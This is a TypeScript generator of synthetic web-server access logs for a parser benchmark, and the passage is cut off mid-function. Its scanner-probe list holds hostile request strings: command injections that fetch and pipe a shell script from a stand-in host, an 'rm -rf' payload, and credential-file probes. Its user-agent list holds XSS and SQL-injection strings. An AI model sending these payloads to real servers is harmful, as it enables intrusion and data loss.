/**
 * A seeded generator of realistic web-server access logs, for the logs benchmark.
 *
 * The same (seed, lines, variant) always gives the same bytes. Generated files are cached in
 * `os.tmpdir()/shoal-bench/`, next to a `.meta.json` that records what the file holds (status mix,
 * escaped lines, the sum of the size field…) so parsers can be checked against it.
 *
 * Traffic model: Zipf clients (≈3 % IPv6) with sticky user agents, Zipf paths (pages, hashed static
 * assets, API calls with query strings, ≈3 % scanner probes), a status mix of about 73 % 200,
 * 17 % 304, 4 % 404, 2 % 301 and 0.7 % 5xx, lognormal response sizes, search, internal and external
 * referrers, about 60 user agents, a few of them with characters Apache escapes (`\"`, `\\`, `\xHH`),
 * a few `"-"` requests (408) and TLS handshakes sent to the plain-HTTP port (400).
 *
 * Variants:
 * - `combined`: Apache `%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"`, escaped as
 *   `mod_log_config` escapes (`ap_escape_logitem`).
 * - `combined-D`: the same with ` %D` (microseconds) appended.
 * - `jsonl`: one JSON object per line, as nginx writes with `log_format … escape=json`.
 *
 * Command line: `tsx bench/src/gen-combined-log.ts [--lines N] [--seed S] [--variant V] [--out FILE]`
 * (without `--out`, prints the cached file's path).
 */
import { createHash } from 'node:crypto'
import {
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  renameSync,
  writeFileSync,
  writeSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { parseArgs } from 'node:util'
import { createRandom, type Random } from '@shoal/core'

/** Bump when the output changes for a given seed, so cached files are regenerated. */
export const GENERATOR_VERSION = 1

/** The kinds of log the generator writes. */
export type LogVariant = 'combined' | 'combined-D' | 'jsonl'

/** The variants, for validating command lines. */
export const LOG_VARIANTS: readonly LogVariant[] = ['combined', 'combined-D', 'jsonl']

/** What a generated file holds: enough to check that a parser read every field right. */
export interface GeneratedLogMeta {
  readonly generatorVersion: number
  readonly variant: LogVariant
  readonly seed: number
  /** Lines written (each ends with `\n`). */
  readonly lines: number
  /** File size in bytes. */
  readonly bytes: number
  /** Sum of the response-size field over all lines (`-` counts as 0). */
  readonly sizeSum: number
  /** Lines per status code. */
  readonly statuses: Readonly<Record<string, number>>
  /** Distinct client addresses seen. */
  readonly clients: number
  /** Lines from IPv6 clients. */
  readonly ipv6Lines: number
  /** Lines whose user agent holds a `"` (escaped as `\"` in Apache logs). */
  readonly uaWithQuote: number
  /** Lines whose user agent holds bytes ≥ 0x80 (escaped as `\xHH` in Apache logs). */
  readonly uaNonAscii: number
  /** Sum of the user agents' lengths as text (UTF-16 code units, escapes decoded; `-` or empty counts 0). */
  readonly uaChars: number
  /** Sum of the user agents' lengths as written in the file (escapes kept, one character per byte). */
  readonly uaCharsEscaped: number
  /** Lines whose request is `-` (the client sent nothing: 408). */
  readonly dashRequests: number
  /** Lines whose request is binary junk (a TLS handshake on the plain port: 400). */
  readonly junkRequests: number
  /** First and last timestamp, ISO 8601. */
  readonly firstTime: string
  readonly lastTime: string
}

/** A generated file and what it holds. */
export interface GeneratedLog {
  readonly path: string
  readonly meta: GeneratedLogMeta
}

/** Options of {@link generateLog}. */
export interface GenerateOptions {
  readonly lines: number
  readonly seed?: number | undefined
  readonly variant?: LogVariant | undefined
}

// ---------------------------------------------------------------- sampling

/** Samples ranks 0..n-1 with probability ∝ 1/(rank+1)^s. */
class Zipf {
  readonly #cdf: Float64Array

  constructor(n: number, s: number) {
    const cdf = new Float64Array(n)
    let sum = 0
    for (let i = 0; i < n; i++) {
      sum += 1 / (i + 1) ** s
      cdf[i] = sum
    }
    for (let i = 0; i < n; i++) cdf[i] = (cdf[i] ?? 0) / sum
    this.#cdf = cdf
  }

  sample(random: Random): number {
    const u = random.next()
    const cdf = this.#cdf
    let lo = 0
    let hi = cdf.length - 1
    while (lo < hi) {
      const mid = (lo + hi) >>> 1
      if ((cdf[mid] ?? 1) < u) lo = mid + 1
      else hi = mid
    }
    return lo
  }
}

/** Picks one of several values by weight. */
class Weighted<T> {
  readonly #values: T[]
  readonly #cdf: number[]

  constructor(entries: readonly (readonly [T, number])[]) {
    const total = entries.reduce((sum, [, weight]) => sum + weight, 0)
    let acc = 0
    this.#values = entries.map(([value]) => value)
    this.#cdf = entries.map(([, weight]) => {
      acc += weight / total
      return acc
    })
  }

  pick(random: Random): T {
    const u = random.next()
    const cdf = this.#cdf
    for (let i = 0; i < cdf.length; i++) if (u < (cdf[i] ?? 1)) return this.#values[i] as T
    return this.#values[this.#values.length - 1] as T
  }
}

function pickOne<T>(random: Random, values: readonly T[]): T {
  return values[random.int(values.length)] as T
}

function normal(random: Random): number {
  const u = 1 - random.next()
  const v = random.next()
  return Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * v)
}

function lognormal(random: Random, median: number, sigma: number): number {
  return Math.max(1, Math.round(median * Math.exp(sigma * normal(random))))
}

function hex(random: Random, digits: number): string {
  let out = ''
  for (let i = 0; i < digits; i++) out += '0123456789abcdef'[random.int(16)]
  return out
}

// ---------------------------------------------------------------- vocabulary

const WORDS = (
  'scaling cache load balancer dns round robin failover replica shard queue stream logs metrics ' +
  'latency throughput kernel tuning network proxy nginx apache varnish squid memcached redis ' +
  'postgres mysql backup restore anycast multicast spread cluster heartbeat wackamole session ' +
  'cookie tls http2 release pricing garden coffee bicycle recipe travel camera review guide'
).split(' ')
const CATEGORIES = 'books garden kitchen outdoor tools audio cameras bikes office toys'.split(' ')
const RESOURCES = 'items users orders carts search recommendations sessions events'.split(' ')
const SEARCH_TERMS = (
  'load+balancer caf%C3%A9+au+lait dns+round+robin nginx+log+format how+to+scale r%C3%A9sum%C3%A9 ' +
  'espresso+machine %E6%9D%B1%E4%BA%AC bike+lights c%2B%2B+tutorial garden+hose tls+1.3'
).split(' ')
const SCANNER_PATHS = [
  '/wp-login.php',
  '/.env',
  '/xmlrpc.php',
  '/phpmyadmin/index.php',
  '/admin/config.php',
  '/.git/config',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/?XDEBUG_SESSION_START=phpstorm',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://x/x%7Csh%60)',
  '/boaform/admin/formLogin',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh',
  '/wp-content/plugins/x/readme.txt',
  '/actuator/env',
  '/.aws/credentials',
  '/server-status',
  '/owa/auth/logon.aspx',
  '/HNAP1/',
  '/solr/admin/info/system',
  '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
  '/.DS_Store',
  '/config.json',
]
const EXTERNAL_REFERRERS = [
  'https://news.ycombinator.com/item?id=38421337',
  'https://t.co/Xy7fA2kQ',
  'https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2F',
  'https://www.reddit.com/r/sysadmin/comments/18abc2/scaling_logs/',
  'https://duckduckgo.com/',
  'https://github.com/',
  'https://stackoverflow.com/questions/1234567/parse-apache-log',
  'https://lobste.rs/s/abc123',
  'android-app://com.google.android.gm/',
  'https://www.linkedin.com/',
  'https://yandex.ru/search/?text=load+balancer',
  'https://search.brave.com/search?q=dns',
]

/** About 60 user agents: browsers first (most frequent), then bots and tools. */
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1.2 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPad; CPU OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:121.0) Gecko/20100101 Firefox/121.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/105.0.0.0',
  'Mozilla/5.0 (Linux; Android 12; SM-A515F) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/120.0.6099.119 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/120.0.6099.71 Safari/537.36',
  'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
  'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0',
  'Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36',
  'Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)',
  'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
  'Mozilla/5.0 (Linux; Android 11; Redmi Note 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36',
  'Twitterbot/1.0',
  'Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0',
  'Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0',
  'Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)',
  'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)',
  'Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 YaBrowser/23.11.0.0 Safari/537.36',
  'Mozilla/5.0 (Linux; U; Android 10; en-US; RMX2020 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.108 UCBrowser/13.4.0.1306 Mobile Safari/537.36',
  'Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
  'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko',
  'Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)',
  'Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36',
  'Feedly/1.0 (+http://www.feedly.com/fetcher.html; 4 subscribers; like FeedFetcher-Google)',
  'Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)',
  'WhatsApp/2.23.20.0',
  'TelegramBot (like TwitterBot)',
  'Mozilla/5.0 (compatible; GPTBot/1.0; +https://openai.com/gptbot)',
  'Mozilla/5.0 (compatible; CCBot/2.0; https://commoncrawl.org/faq/)',
  'curl/7.88.1',
  'Wget/1.21.3',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'Go-http-client/2.0',
  'okhttp/4.12.0',
  'Apache-HttpClient/4.5.14 (Java/17.0.9)',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Prometheus/2.48.0',
  'kube-probe/1.28',
]
/** User agents of vulnerability scanners (used with scanner probes). */
const SCANNER_AGENTS = [
  'Mozilla/5.0 zgrab/0.x',
  'python-requests/2.31.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36',
  'curl/7.64.1',
  '-',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day',
  'Go-http-client/1.1',
]
/** Rare user agents holding a `"` or a backslash: Apache writes them as `\"` and `\\`. */
const QUOTED_AGENTS = [
  'Mozilla/5.0 (compatible; "Fetcher" 2.1; +http://example.org/bot)',
  'Mozilla/5.0 (Windows NT 10.0) "Quoted" Agent/1.0',
  'Bot "x" \\ backslash/0.9',
  '"><script>alert(1)</script>',
  'Mozilla/5.0 (X11; Linux x86_64) "; DROP TABLE sessions; --',
]
/** Rare user agents holding UTF-8 (and one binary) bytes: Apache writes them as `\xHH`. */
const NON_ASCII_AGENTS = [
  'Mozilla/5.0 (Linux; Android 9; Téléphone) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36',
  'Navigateur-Café/2.0 (Montréal)',
  'Mozilla/5.0 (compatible; 百度蜘蛛/2.0)',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Büro—App/3.1',
  'ProbeÆ/1.0 ✓',
]

// ---------------------------------------------------------------- escaping

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what Apache escapes
const APACHE_ESCAPED = /["\\\x00-\x1f\x7f-\uffff]/
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what nginx escapes
const JSON_ESCAPED = /["\\\x00-\x1f\x80-\uffff]/

/** Bytes of `text` as UTF-8, escaped as Apache's `ap_escape_logitem` does (`\"` `\\` `\n` `\t` `\xhh`). */
export function apacheEscape(text: string | Uint8Array): string {
  if (typeof text === 'string' && !APACHE_ESCAPED.test(text)) return text
  const bytes = typeof text === 'string' ? Buffer.from(text, 'utf8') : text
  let out = ''
  for (const b of bytes) {
    if (b === 0x22) out += '\\"'
    else if (b === 0x5c) out += '\\\\'
    else if (b === 0x0a) out += '\\n'
    else if (b === 0x0d) out += '\\r'
    else if (b === 0x09) out += '\\t'
    else if (b === 0x08) out += '\\b'
    else if (b === 0x0b) out += '\\v'
    else if (b < 0x20 || b >= 0x7f) out += `\\x${b.toString(16).padStart(2, '0')}`
    else out += String.fromCharCode(b)
  }
  return out
}

/**
 * Escapes as nginx `escape=json` does: `"` `\` and bytes < 0x20 escaped, every other byte
 * (UTF-8 or not) written raw. Returns a binary string (one character per byte).
 */
export function nginxJsonEscape(text: string | Uint8Array): string {
  if (typeof text === 'string' && !JSON_ESCAPED.test(text)) return text
  const bytes = typeof text === 'string' ? Buffer.from(text, 'utf8') : text
  let out = ''
  for (const b of bytes) {
    if (b === 0x22) out += '\\"'
    else if (b === 0x5c) out += '\\\\'
    else if (b === 0x0a) out += '\\n'
    else if (b === 0x0d) out += '\\r'
    else if (b === 0x09) out += '\\t'
    else if (b === 0x08) out += '\\b'
    else if (b === 0x0c) out += '\\f'
    else if (b < 0x20) out += `\\u00${b.toString(16).padStart(2, '0')}`
    else out += String.fromCharCode(b)
  }
  return out
}

// ---------------------------------------------------------------- the traffic model

const MONTHS = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ')
/** Local time zone of the simulated server. */
const TZ_OFFSET_MINUTES = 60
const TZ = '+0100'
/** Start of the simulated day, local time 00:00 on 2024-03-10. */
const START_MS = Date.UTC(2024, 2, 10, 0, 0, 0) - TZ_OFFSET_MINUTES * 60_000
/** Mean request rate (requests/s); 2 M lines cover about 4.2 hours. */
const MEAN_RATE = 132

type Kind = 'page' | 'static' | 'api' | 'scanner'

interface Request {
  readonly method: string
  readonly target: string
  readonly protocol: string
  readonly kind: Kind
}

function two(n: number): string {
  return n < 10 ? `0${n}` : `${n}`
}

function clfTime(ms: number): string {
  const d = new Date(ms + TZ_OFFSET_MINUTES * 60_000)
  return `${two(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(
    d.getUTCMinutes(),
  )}:${two(d.getUTCSeconds())} ${TZ}`
}

function ipv4(random: Random): string {
  const first = pickOne(
    random,
    [23, 31, 37, 45, 51, 62, 66, 77, 81, 85, 89, 91, 93, 104, 109, 151, 176, 178, 185, 188],
  )
  return `${first}.${random.int(256)}.${random.int(256)}.${1 + random.int(254)}`
}

function ipv6(random: Random): string {
  const prefix = pickOne(random, ['2a02', '2a01', '2001', '2600', '2a00', '2607', '2003'])
  return `${prefix}:${hex(random, 3)}:${hex(random, 4)}:${hex(random, 2)}::${hex(random, 1 + random.int(4))}`
}

function slug(random: Random, words: number): string {
  const parts: string[] = []
  for (let i = 0; i < words; i++) parts.push(pickOne(random, WORDS))
  return parts.join('-')
}

function buildPages(random: Random, n: number): string[] {
  const pages = [
    '/',
    '/index.html',
    '/about/',
    '/contact/',
    '/blog/',
    '/products/',
    '/docs/',
    '/search',
    '/feed.xml',
  ]
  while (pages.length < n) {
    const id = pages.length
    const shape = random.int(10)
    if (shape < 4) {
      pages.push(
        `/blog/${2015 + random.int(9)}/${two(1 + random.int(12))}/${slug(random, 2 + random.int(4))}-${id}/`,
      )
    } else if (shape < 7) {
      pages.push(`/products/${pickOne(random, CATEGORIES)}/${slug(random, 2 + random.int(3))}-${id}.html`)
    } else if (shape < 9) {
      pages.push(`/docs/${pickOne(random, WORDS)}/${slug(random, 1 + random.int(3))}.html`)
    } else {
      pages.push(`/tag/${pickOne(random, WORDS)}/page/${2 + random.int(40)}/`)
    }
  }
  return pages
}

function buildAssets(random: Random, n: number): string[] {
  const assets = [
    '/favicon.ico',
    '/robots.txt',
    '/static/css/main.8c1d2f3a.css',
    '/static/js/main.5e0b9a4c.js',
  ]
  while (assets.length < n) {
    const shape = random.int(10)
    if (shape < 3) assets.push(`/static/js/${pickOne(random, WORDS)}.${hex(random, 8)}.chunk.js`)
    else if (shape < 5) assets.push(`/static/css/${pickOne(random, WORDS)}.${hex(random, 8)}.css`)
    else if (shape < 9) {
      const ext = pickOne(random, ['jpg', 'png', 'webp', 'svg', 'gif'])
      assets.push(
        `/images/${slug(random, 2)}-${200 * (1 + random.int(8))}x${150 * (1 + random.int(8))}.${ext}`,
      )
    } else
      assets.push(`/fonts/${pickOne(random, ['inter', 'roboto', 'source-sans'])}-${hex(random, 6)}.woff2`)
  }
  return assets
}

/** Generates the lines of one log; deterministic for a seed. */
class TrafficModel {
  readonly #random: Random
  readonly #clientZipf: Zipf
  readonly #clients: string[]
  readonly #clientAgents: Uint8Array
  readonly #pageZipf: Zipf
  readonly #pages: string[]
  readonly #assetZipf: Zipf
  readonly #assets: string[]
  readonly #agentZipf: Zipf
  readonly #kind = new Weighted<Kind>([
    ['page', 55],
    ['static', 30],
    ['api', 12],
    ['scanner', 3],
  ])
  readonly #status = new Weighted<number>([
    [200, 75.8],
    [304, 17.4],
    [404, 1.75],
    [301, 2.35],
    [302, 1.2],
    [206, 0.3],
    [403, 0.2],
    [401, 0.2],
    [400, 0.06],
    [408, 0.05],
    [429, 0.05],
    [500, 0.4],
    [502, 0.12],
    [503, 0.15],
    [504, 0.05],
  ])
  readonly #scannerStatus = new Weighted<number>([
    [404, 85],
    [403, 8],
    [301, 4],
    [400, 3],
  ])
  readonly #protocol = new Weighted<string>([
    ['HTTP/1.1', 70],
    ['HTTP/2.0', 28],
    ['HTTP/1.0', 2],
  ])
  #time = START_MS
  ipv6Clients: Set<number> = new Set()

  constructor(seed: number) {
    const setup = createRandom(seed)
    this.#random = setup.fork()
    const clientCount = 200_000
    this.#clientZipf = new Zipf(clientCount, 1.0)
    this.#clients = []
    this.#clientAgents = new Uint8Array(clientCount)
    this.#agentZipf = new Zipf(USER_AGENTS.length, 1.1)
    const clientRandom = setup.fork()
    for (let i = 0; i < clientCount; i++) {
      const v6 = clientRandom.next() < 0.03
      if (v6) this.ipv6Clients.add(i)
      this.#clients.push(v6 ? ipv6(clientRandom) : ipv4(clientRandom))
      this.#clientAgents[i] = this.#agentZipf.sample(clientRandom)
    }
    this.#pages = buildPages(setup.fork(), 50_000)
    this.#pageZipf = new Zipf(this.#pages.length, 1.05)
    this.#assets = buildAssets(setup.fork(), 2_000)
    this.#assetZipf = new Zipf(this.#assets.length, 0.9)
  }

  /** Advances the clock: Poisson arrivals at a rate that follows a daily curve. */
  tick(): number {
    const random = this.#random
    const hour = ((this.#time - START_MS) / 3_600_000) % 24
    const rate = MEAN_RATE * (1 + 0.5 * Math.sin(((hour - 9) / 24) * 2 * Math.PI))
    this.#time += (-Math.log(1 - random.next()) / rate) * 1000
    return this.#time
  }

  client(): { index: number; address: string } {
    const index = this.#clientZipf.sample(this.#random)
    return { index, address: this.#clients[index] as string }
  }

  request(): Request {
    const random = this.#random
    const kind = this.#kind.pick(random)
    const protocol = this.#protocol.pick(random)
    switch (kind) {
      case 'page': {
        let target = this.#pages[this.#pageZipf.sample(random)] as string
        if (target === '/search') target += `?q=${pickOne(random, SEARCH_TERMS)}&page=${1 + random.int(5)}`
        else if (random.next() < 0.08)
          target += `?utm_source=${pickOne(random, ['newsletter', 'twitter', 'hn', 'rss'])}&utm_medium=${pickOne(random, ['email', 'social', 'referral'])}`
        else if (random.next() < 0.05) target += `?page=${2 + random.int(20)}`
        const u = random.next()
        const method = u < 0.97 ? 'GET' : u < 0.99 ? 'HEAD' : 'POST'
        return { method, target, protocol, kind }
      }
      case 'static': {
        const target = this.#assets[this.#assetZipf.sample(random)] as string
        return { method: random.next() < 0.99 ? 'GET' : 'HEAD', target, protocol, kind }
      }
      case 'api': {
        const resource = pickOne(random, RESOURCES)
        const u = random.next()
        if (u < 0.7) {
          const target =
            resource === 'search'
              ? `/api/v1/search?q=${pickOne(random, SEARCH_TERMS)}&limit=${pickOne(random, [10, 20, 50])}&offset=${10 * random.int(10)}`
              : `/api/v1/${resource}?id=${random.int(1_000_000)}&fields=id,name,updated_at&_=${1710028800000 + random.int(1e9)}`
          return { method: 'GET', target, protocol, kind }
        }
        const method = u < 0.9 ? 'POST' : u < 0.95 ? 'PUT' : u < 0.98 ? 'DELETE' : 'PATCH'
        return { method, target: `/api/v1/${resource}/${random.int(1_000_000)}`, protocol, kind }
      }
      default: {
        const method = random.next() < 0.85 ? 'GET' : pickOne(random, ['POST', 'HEAD', 'OPTIONS', 'PROPFIND'])
        return {
          method,
          target: pickOne(random, SCANNER_PATHS),
          protocol: random.next() < 0.8 ? 'HTTP/1.1' : 'HTTP/1.0',
          kind,
        }
      }
    }
  }

  status(request: Request): number {
    return request.kind === 'scanner'
      ? this.#scannerStatus.pick(this.#random)
      : this.#status.pick(this.#random)
  }

  size(request: Request, status: number): number {
    const random = this.#random
    if (status === 304 || status === 204 || request.method === 'HEAD') return 0
    if (status === 301 || status === 302) return 220 + random.int(40)
    if (status >= 500) return lognormal(random, 520, 0.3)
    if (status >= 400) return lognormal(random, 450, 0.4)
    if (status === 206) return lognormal(random, 1_048_576, 0.5)
    switch (request.kind) {
      case 'static':
        return lognormal(random, 24_000, 1.4)
      case 'api':
        return lognormal(random, 1_800, 1.0)
      default:
        return lognormal(random, 14_000, 0.8)
    }
  }

  referer(request: Request): string {
    const random = this.#random
    const u = random.next()
    if (request.kind === 'scanner') return u < 0.9 ? '-' : 'http://198.51.100.7/'
    if (request.kind !== 'page') {
      return u < 0.85 ? `https://www.example.com${this.#pages[this.#pageZipf.sample(random)]}` : '-'
    }
    if (u < 0.3) return '-'
    if (u < 0.7) return `https://www.example.com${this.#pages[this.#pageZipf.sample(random)]}`
    if (u < 0.85) return 'https://www.google.com/'
    if (u < 0.88) return `https://www.bing.com/search?q=${pickOne(random, SEARCH_TERMS)}&form=QBLH`
    return pickOne(random, EXTERNAL_REFERRERS)
  }

  /** The user agent as raw text, and which rare case it is. */
  agent(clientIndex: number, request: Request): { text: string; quote: boolean; nonAscii: boolean } {
    const random = this.#random
    const u = random.next()
    if (u < 0.00025) return { text: pickOne(random, QUOTED_AGENTS), quote: true, nonAscii: false }
    if (u < 0.0005) return { text: pickOne(random, NON_ASCII_AGENTS), quote: false, nonAscii: true }
    if (request.kind === 'scanner')
      return { text: pickOne(random, SCANNER_AGENTS), quote: false, nonAscii: false }
    const index =
      random.next() < 0.95 ? (this.#clientAgents[clientIndex] ?? 0) : this.#agentZipf.sample(random)
    return { text: USER_AGENTS[index] as string, quote: false, nonAscii: false }
  }

  /** Microseconds taken to serve the request (`%D`). */
  duration(request: Request, status: number): number {
    const median =
      request.kind === 'static' ? 900 : request.kind === 'api' ? 18_000 : status === 304 ? 400 : 35_000
    return lognormal(this.#random, median, 1.0)
  }

  junk(): Uint8Array {
    const random = this.#random
    const bytes = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]
    const extra = 6 + random.int(20)
    for (let i = 0; i < extra; i++) bytes.push(random.int(256))
    // a space would make a request line of it; keep the junk one token, as real handshakes mostly are
    return Uint8Array.from(bytes.map((b) => (b === 0x20 ? 0x21 : b)))
  }

  get random(): Random {
    return this.#random
  }
}

// ---------------------------------------------------------------- writing

/** Where the cached file for these options lives. */
export function cachedLogPath(options: GenerateOptions): string {
  const variant = options.variant ?? 'combined'
  const seed = options.seed ?? 1
  const ext = variant === 'jsonl' ? 'jsonl' : 'log'
  return join(
    tmpdir(),
    'shoal-bench',
    `access-v${GENERATOR_VERSION}-s${seed}-n${options.lines}-${variant}.${ext}`,
  )
}

/**
 * Returns the log for these options, generating it into the cache on first use.
 * The file and its `.meta.json` are written under temporary names and renamed, so an
 * interrupted run never leaves a half-written file in the cache.
 */
export function generateLog(options: GenerateOptions): GeneratedLog {
  const path = cachedLogPath(options)
  const metaPath = `${path}.meta.json`
  if (existsSync(path) && existsSync(metaPath)) {
    const meta = JSON.parse(readFileSync(metaPath, 'utf8')) as GeneratedLogMeta
    return { path, meta }
  }
  mkdirSync(join(tmpdir(), 'shoal-bench'), { recursive: true })
  const temp = `${path}.${process.pid}.tmp`
  const meta = writeLog(temp, options)
  writeFileSync(`${metaPath}.${process.pid}.tmp`, `${JSON.stringify(meta, null, 2)}\n`)
  renameSync(temp, path)
  renameSync(`${metaPath}.${process.pid}.tmp`, metaPath)
  return { path, meta }
}

/** Writes `options.lines` lines to `path` (no caching) and returns what they hold. */
export function writeLog(path: string, options: GenerateOptions): GeneratedLogMeta {
  const variant = options.variant ?? 'combined'
  const seed = options.seed ?? 1
  const lines = options.lines
  if (!Number.isSafeInteger(lines) || lines < 0)
    throw new RangeError(`lines must be a non-negative integer, got ${lines}`)
  const model = new TrafficModel(seed)
  const random = model.random
  const fd = openSync(path, 'w')
  const statuses: Record<string, number> = {}
  const clients = new Set<number>()
  let bytes = 0
  let sizeSum = 0
  let ipv6Lines = 0
  let uaWithQuote = 0
  let uaNonAscii = 0
  let uaChars = 0
  let uaCharsEscaped = 0
  let dashRequests = 0
  let junkRequests = 0
  let firstTime = ''
  let lastTime = ''
  let pending: string[] = []
  let pendingChars = 0
  let cachedSecond = -1
  let cachedTime = ''
  const flush = (): void => {
    if (pending.length === 0) return
    // every line is already a binary string (one character per byte)
    const chunk = Buffer.from(pending.join(''), 'latin1')
    writeSync(fd, chunk)
    bytes += chunk.length
    pending = []
    pendingChars = 0
  }
  try {
    for (let i = 0; i < lines; i++) {
      const ms = model.tick()
      const second = Math.floor(ms / 1000)
      if (second !== cachedSecond) {
        cachedSecond = second
        cachedTime = clfTime(second * 1000)
      }
      if (i === 0) firstTime = new Date(second * 1000).toISOString()
